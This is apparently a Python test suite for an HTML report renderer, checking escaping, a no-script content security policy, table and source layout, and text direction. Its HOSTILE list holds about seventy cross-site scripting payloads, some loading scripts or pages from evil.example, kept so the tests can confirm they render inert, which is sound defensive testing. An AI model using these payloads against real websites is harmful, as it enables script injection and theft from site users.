from __future__ import annotations

import datetime
from collections.abc import Callable, Sequence
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prepkit.block import (
    Block,
    Card,
    Cell,
    Chart,
    Column,
    Empty,
    Head,
    Note,
    Prose,
    Source,
    Sources,
    Table,
)
from prepkit.views.html import fragment, page
from prepkit.views.words import guide

DAY = datetime.date(2026, 11, 23)
VOID = {"br", "col", "img", "meta"}
DRAWN = {
    "html", "head", "meta", "title", "style", "body", "main", "section", "header", "article",
    "div", "h1", "h2", "h3", "h4", "h5", "h6", "p", "span", "strong", "em", "code", "blockquote",
    "a", "br", "ul", "li", "table", "caption", "col", "colgroup", "nav", "thead", "tbody", "tr",
    "th", "td", "figure",
    "figcaption", "img",
}  # fmt: skip
GIVEN = {"class", "style", "dir", "id", "lang", "href", "rel", "src", "alt", "scope", "charset",
         "http-equiv", "content", "name"}  # fmt: skip

# As collected in public lists of cross-site scripting; none of them is to do anything but be read.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</div></section></body></html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    '<img src="javascript:alert(1);">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`x` onerror=`alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math></math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1);">x</a>',
    '<div style="background:url(javascript:alert(1))">',
    "<x onclick=alert(1)>x</x>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onmouseover=alert(1)`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '<https://evil.example/"onclick=alert(1)>',
    'https://evil.example/"onclick="alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u202e<script>\u202c",
    "＜script＞alert(1)＜/script＞",
]


class Page(HTMLParser):
    """A page as a browser's parser sees it: elements with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.pieces: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.pieces.append((self.open[-1] if self.open else "", data))

    def all(self, *tags: str) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.elements if tag in tags]

    def text(self, *tags: str) -> str:
        return "".join(data for tag, data in self.pieces if not tags or tag in tags)


def words(text: str) -> str:
    """Return the letters of a text, without the white space a page sets anew."""
    return "".join(text.split())


def assert_nothing_can_run(found: Page) -> None:
    assert {tag for tag, _ in found.elements} <= DRAWN
    assert {name for _, attributes in found.elements for name in attributes} <= GIVEN
    assert {urlsplit(a["href"].strip()).scheme.lower() for a in found.all("a")} <= {
        "http", "https", "mailto"}  # fmt: skip
    assert all(img["src"].startswith("data:image/svg+xml;base64,") for img in found.all("img"))
    assert not any("url(" in a.get("style", "") for _, a in found.elements)
    assert not found.open


def table(*cells: Cell, caption: str = "C", title: str = "T") -> Table:
    return Table(caption=caption, columns=(Column(title=title),) * len(cells), rows=(cells,))


def head(**said: str) -> Head:
    return Head(**{"chapter": "deep_dive", "title": "Deep dive", "as_of": DAY} | said)  # type: ignore[arg-type]  # all are texts


SHOWN: dict[str, Callable[[str], Block]] = {
    "prose": lambda text: Prose(text=text),
    "prose in a list": lambda text: Prose(text=f"1. one\n2. {text}"),
    "prose in bold": lambda text: Prose(text=f"**{text}**"),
    "note": lambda text: Note(text=text),
    "warning": lambda text: Note(text=text, tone="warn"),
    "empty": lambda text: Empty(text=text),
    "caption of a table": lambda text: table(Cell(text="x"), caption=text),
    "head of a column": lambda text: table(Cell(text="x"), title=text),
    "cell": lambda text: table(Cell(text=text)),
    "strong cell": lambda text: table(Cell(text=text, tone="strong")),
    "linked cell": lambda text: table(Cell(text=text, link="https://a.example")),
    "cell linked to itself": lambda text: table(Cell(text=text, link=text)),
    "caption of a chart": lambda text: Chart(caption=text, alt="x", spec={}),
    "words for a chart": lambda text: Chart(caption="x", alt=text, spec={}),
    "title of a card": lambda text: Card(title=text),
    "label of a fact": lambda text: Card(title="x", facts=((text, "y"),)),
    "fact": lambda text: Card(title="x", facts=(("y", text),)),
    "label of a text": lambda text: Card(title="x", texts=((text, "y"),)),
    "text": lambda text: Card(title="x", texts=(("y", text),)),
    "label of a source": lambda text: Sources(items=(Source(label=text),)),
    "link of a source": lambda text: Sources(items=(Source(label="x", link=text),)),
    "date of a source": lambda text: Sources(items=(Source(label="x", dated=text),)),
    "grade of a source": lambda text: Sources(items=(Source(label="x", grade=text),)),
    "source of a cell": lambda text: table(Cell(text="x", source=Source(label=text, link=text))),
    "company": lambda text: head(company=text),
    "role": lambda text: head(role=text),
    "interview date": lambda text: head(interview_on=text),
}
UNSHOWN: dict[str, Callable[[str], Block]] = {
    "link of a cell": lambda text: table(Cell(text="x", link=text)),
    "person": lambda text: head(person=text),
    "state": lambda text: head(state=text),
    "chart": lambda text: Chart(caption="x", alt="y", spec={"title": text, "data": {"url": text}}),
}


def printed(*blocks: Block, pictures: dict[str, str] | None = None, style: str = "") -> str:
    return page("T", [("one", blocks)], style=style, pictures=pictures or {})


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_read_letter_for_letter_wherever_it_stands(text: str) -> None:
    for place, made in SHOWN.items():
        found = Page(printed(made(text)))
        assert_nothing_can_run(found)
        assert words(text) in words(found.text()), place


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_does_nothing_in_a_notebook_either(text: str) -> None:
    for made in (*SHOWN.values(), *UNSHOWN.values()):
        assert_nothing_can_run(Page(fragment([made(text)])))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_that_is_not_shown_does_nothing(text: str) -> None:
    for made in UNSHOWN.values():
        assert_nothing_can_run(Page(printed(made(text))))
    title = Page(page(text, [(text, [Note(text="x")])], style="", pictures={}, lang=text))
    assert_nothing_can_run(title)
    assert words(text) in words(title.text("title"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_guide_text_does_nothing(text: str) -> None:
    parts = [("", guide(text) + guide(f"| a |\n|---|\n| {text} |") + guide(f"# {text}"))]
    assert_nothing_can_run(Page(page("T", parts, style="", pictures={})))


@settings(max_examples=100)
@given(st.lists(st.sampled_from(HOSTILE) | st.text(max_size=5), max_size=4).map("\n".join))
def test_hostile_texts_together_do_nothing(text: str) -> None:
    blocks = [made(text) for made in (*SHOWN.values(), *UNSHOWN.values())]
    assert_nothing_can_run(Page(fragment(blocks)))


def test_there_are_texts_and_places_enough() -> None:
    assert len(set(HOSTILE)) >= 40
    assert {type(made("x")) for made in SHOWN.values()} == {
        Prose, Note, Empty, Table, Chart, Card, Sources, Head}  # fmt: skip


def test_a_page_forbids_scripts_and_loading_before_anything_else_is_read() -> None:
    found = Page(printed(Note(text="x"), style="p{color:red}"))
    tags = [tag for tag, _ in found.elements]
    policy = next(meta["content"] for meta in found.all("meta") if "http-equiv" in meta)
    assert "default-src 'none'" in policy.split("; ")
    assert "script-src" not in policy
    assert tags.index("meta") < tags.index("title") < tags.index("style")


def test_a_page_loads_nothing_from_the_web() -> None:
    blocks: Sequence[Block] = [made("https://a.example/x.png") for made in SHOWN.values()]
    found = Page(printed(*blocks, pictures={"x": "<svg/>"}))
    loading = [(tag, attributes) for tag, attributes in found.elements
               if {"src", "srcset", "data", "poster", "background"} & set(attributes)]  # fmt: skip
    assert [tag for tag, _ in loading] == ["img"]
    assert loading[0][1]["src"].startswith("data:")
    assert not found.all("link", "script", "iframe", "object", "embed")


def test_a_page_has_its_language_its_title_and_an_anchor_for_every_part() -> None:
    parts = [("target", [Note(text="a")]), ("", guide("# b")), ("claims", [])]
    html = page("Deep dive", parts, style="p{}", pictures={}, lang="de")
    found = Page(html)
    assert html.startswith("<!DOCTYPE html>")
    assert found.all("html") == [{"lang": "de"}]
    assert found.text("title", "style") == "Deep divep{}"
    assert [part.get("id", "") for part in found.all("section")] == ["target", "", "claims"]


def test_words_of_a_table_stay_whole_unless_they_are_endless() -> None:
    columns = (Column(title="Communication"), Column(title="b"))
    table = Table(
        caption="c", columns=columns, rows=((Cell(text="short words"), Cell(text="x" * 99)),)
    )
    drawn = fragment([table])
    assert drawn.count("overflow-wrap:break-word") == 3
    assert drawn.count("overflow-wrap:anywhere") == 1
    assert 'style="overflow-x:auto"><table' in drawn


def test_a_table_has_a_caption_and_heads_that_name_their_columns() -> None:
    found = Page(fragment([table(Cell(text="a"), Cell(text="b"), caption="Ledger", title="Facet")]))
    assert found.text("caption") == "Ledger"
    assert found.text("th") == "FacetFacet"
    assert [th["scope"] for th in found.all("th")] == ["col", "col"]
    assert found.text("td") == "ab"


def test_figures_are_set_to_the_side_the_column_says() -> None:
    columns = (Column(title="a"), Column(title="b", align="end"))
    block = Table(caption="C", columns=columns, rows=((Cell(text="1"), Cell(text="2")),))
    assert ["text-align:end" in td["style"] for td in Page(fragment([block])).all("td")] == [
        False, True]  # fmt: skip


def test_a_source_has_one_number_on_the_whole_page_and_is_listed_once() -> None:
    letter = Source(label="Letter", link="https://a.example/l", dated="2026", grade="B")
    filing = Source(label="Filing")
    cited = table(Cell(text="a", source=letter), Cell(text="b", source=filing))
    again = table(Cell(text="c", source=filing), Cell(text="d", source=letter))
    parts = [("one", [cited]), ("two", [again, Sources(items=(letter, Source(label="Book")))])]
    found = Page(page("T", parts, style="", pictures={}))
    assert found.text("span") == "[1] [2] [2] [1] "
    assert [data.strip() for tag, data in found.pieces if tag == "p"] == [
        "[1] Letter · B · 2026", "[2] Filing", "[3] Book"]  # fmt: skip
    links = [link["href"] for link in found.all("a")]
    assert [link for link in links if not link.startswith("#")] == ["https://a.example/l"]


def test_a_page_without_sources_has_no_list_of_them() -> None:
    assert "Sources" not in Page(printed(Sources(items=()), Note(text="x"))).text()


def test_an_address_shown_in_a_cell_that_links_to_it_is_one_link() -> None:
    address = "https://a.example/filing"
    found = Page(fragment([table(Cell(text=address, link=address))]))
    assert [link["href"] for link in found.all("a")] == [address]


def test_a_chart_is_a_picture_with_words_or_the_words_alone() -> None:
    chart = Chart(caption="Gaps", alt="Widest gap: work.", spec={})
    drawn = Page(fragment([chart], pictures={"Gaps": "<svg>✓</svg>"}))
    assert drawn.all("img")[0]["alt"] == "Widest gap: work."
    assert drawn.text() == "Gaps"
    assert Page(fragment([chart])).text("p", "figcaption") == "Widest gap: work.Gaps"


def test_the_script_in_a_picture_cannot_reach_the_page() -> None:
    chart = Chart(caption="Gaps", alt="x", spec={})
    found = Page(fragment([chart], pictures={"Gaps": "<svg><script>alert(1)</script></svg>"}))
    assert_nothing_can_run(found)


def test_an_answer_keeps_its_paragraphs_lines_lists_bold_and_links() -> None:
    found = Page(fragment([Prose(text="a\nb\n\n- **c**\n- https://d.example\n\n2. e")]))
    assert [tag for tag, _ in found.elements] == [
        "div", "div", "p", "br", "ul", "li", "strong", "li", "a", "ul", "li"]  # fmt: skip
    assert found.text("li") == "– – 2. e"


def test_every_text_says_which_way_it_runs() -> None:
    block = Prose(text="hello\n\nשלום")
    assert [p["dir"] for p in Page(fragment([block])).all("p")] == ["ltr", "rtl"]
    assert Page(fragment([table(Cell(text="שלום"))])).all("td")[0]["dir"] == "rtl"
    assert Page(fragment([Card(title="שלום")])).all("h4") == [{"dir": "auto"}]


def test_a_card_puts_a_colon_after_a_label_but_not_after_a_question() -> None:
    card = Card(title="T", facts=(("When", "2024"), ("Is it still true?", "Partly")))
    assert Page(fragment([card])).text("p") == "When: 2024 · Is it still true? Partly"


def test_a_text_of_a_card_without_a_title_stands_by_itself() -> None:
    card = Card(title="T", texts=(("", "I count twice."), ("Why", "Because.")))
    page = Page(fragment([card]))
    assert page.text() == "TI count twice.WhyBecause."
    assert fragment([card]).count("<strong>") == 1


def test_a_head_says_for_whom_and_how_much_is_there() -> None:
    said = head(company="Acme", role="Analyst", interview_on="2026-12-05")
    block = said.model_copy(update={"progress": (("Target", 3, 5), ("Claims", 0, 13))})
    assert Page(fragment([block])).text() == (
        "Acme · Analyst · interview on 2026-12-05Target 3 of 5 · Claims 0 of 13"
    )
